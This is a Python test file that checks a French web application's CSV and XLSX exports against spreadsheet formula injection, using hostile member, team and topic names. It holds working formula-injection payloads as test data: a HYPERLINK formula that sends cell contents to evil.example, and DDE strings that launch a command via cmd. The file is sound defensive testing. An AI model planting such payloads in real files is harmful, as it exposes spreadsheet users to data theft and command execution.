"""Every CSV and XLSX download of Guichet, opened as French spreadsheet software would, with
member, team and topic names written to attack the reader (CSV/formula injection).

The list of exports is walked, not typed twice: every figure of the dashboard and of the impact
report, the journal and the members list, each in every format it offers."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from accounts import services as account_services
from accounts.models import Role
from accounts.spreadsheets import FORMULA_START, csv_cell, french_number, neutralise, rounded
from cases.administration_settings.services import topic_create
from cases.dashboard.figures import DASHBOARD
from cases.models import Channel
from drafting.experiment.impact.figures import IMPACT
from drafting.models import Arm
from tests.drafting.test_impact import adoption_data, answered_cases, make_period
from tests.factories import make_member
from tests.french_csv import french_rows, streamed

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _exports(tenant) -> list[tuple[str, str, dict[str, str]]]:
    """(name, URL, query) of every download, in every format."""
    out = []
    for fmt in ("csv", "xlsx"):
        for figure in DASHBOARD:
            out.append(
                (
                    f"dashboard:{figure.id}",
                    "/dossiers/tableau-de-bord/",
                    {"periode": "30", "export": figure.id, "format": fmt},
                )
            )
        for figure in IMPACT:
            out.append(
                (f"impact:{figure.id}", "/brouillons/impact/", {"export": figure.id, "format": fmt})
            )
        out.append(("members", "/compte/membres/export/", {"format": fmt}))
    out.append(("journal", "/compte/journal/export.csv", {}))
    return out


@pytest.fixture
def hostile_world(tenant_a):
    administration = tenant_a.administration
    # Written through the settings service: the journal names the topic too.
    topic = topic_create(
        actor=tenant_a.administrator, administration=administration, name=HOSTILE[3]
    )
    hostile_agent = make_member(
        administration, Role.AGENT, first_name=HOSTILE[0], last_name=HOSTILE[1]
    )
    membership = hostile_agent.memberships.get(administration=administration)
    account_services.membership_change_role(
        actor=tenant_a.administrator, membership=membership, role=Role.AGENT, team=HOSTILE[2]
    )
    period = make_period(tenant_a)
    adoption_data(tenant_a, period)
    answered_cases(
        tenant_a,
        period,
        Arm.CONTROL,
        [30, 45],
        assignee=hostile_agent,
        topic=topic,
        channel=Channel.EMAIL,
    )
    # An open case of the hostile agent, on the hostile topic (dashboard by agent, by topic).
    from tests.factories import make_case

    case = make_case(administration, topic=topic)
    from cases import services as case_services

    case_services.case_assign(actor=tenant_a.manager, case=case, assignee=hostile_agent)
    return tenant_a


def _check_csv(name: str, body: bytes) -> list[str]:
    rows = french_rows(body)
    assert rows, name
    texts = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                # Only our own negative numbers may start with "-".
                french_number(cell)
            texts.append(cell)
            if "." in cell and cell.replace(".", "").replace("-", "").isdigit():
                pytest.fail(f"{name}: a number with a decimal point: {cell!r}")
    return texts


def _check_xlsx(name: str, body: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(body)).active
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{name}: a formula in {cell.coordinate}: {cell.value!r}"
            if isinstance(cell.value, str):
                if cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, f"{name}: {cell.coordinate} not marked as text"
                texts.append(cell.value)
            if isinstance(cell.value, float):
                assert cell.value == round(cell.value, 1), f"{name}: {cell.value} not rounded"
    return texts


def test_every_export_opens_in_french_excel_and_neutralises_hostile_names(client, hostile_world):
    client.force_login(hostile_world.administrator)
    seen: dict[str, set[str]] = {}
    for name, url, query in _exports(hostile_world):
        if name.startswith(("dashboard", "impact")):
            client.force_login(hostile_world.manager)
        else:
            client.force_login(hostile_world.administrator)
        response = client.get(url, query)
        assert response.status_code == 200, (name, query, response.status_code)
        body = streamed(response)
        if query.get("format", "csv") == "csv":
            assert response["Content-Type"].startswith("text/csv"), name
            texts = _check_csv(name, body)
        else:
            texts = _check_xlsx(name, body)
        seen.setdefault(name, set()).update(texts)
    everything = {text for texts in seen.values() for text in texts}
    # The hostile names did reach the exports (the walk tested something), inert.
    assert neutralise(HOSTILE[3]) in seen["dashboard:times-by-topic"] or HOSTILE[3] in everything
    assert any(HOSTILE[0] in text for text in seen["members"])
    assert neutralise(HOSTILE[2]) in seen["members"]  # the team, in CSV
    assert HOSTILE[2] in seen["members"]  # and exactly, as a text cell, in XLSX
    assert any(HOSTILE[1] in text for text in seen["dashboard:open-by-agent"])
    assert neutralise(HOSTILE[3]) in seen["journal"]


def test_numbers_are_rounded_half_up_with_a_decimal_comma():
    assert csv_cell(3.6 - 3.1) == "0,5"
    assert csv_cell(200 / 3) == "66,7"
    assert csv_cell(0.05) == "0,1"
    assert csv_cell(-0.04) == "0,0"
    assert csv_cell(-2.25) == "-2,3"
    assert csv_cell(12) == "12"
    assert rounded(0.45) == rounded(0.5) - rounded(0.0)
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("-voir") == "'-voir"
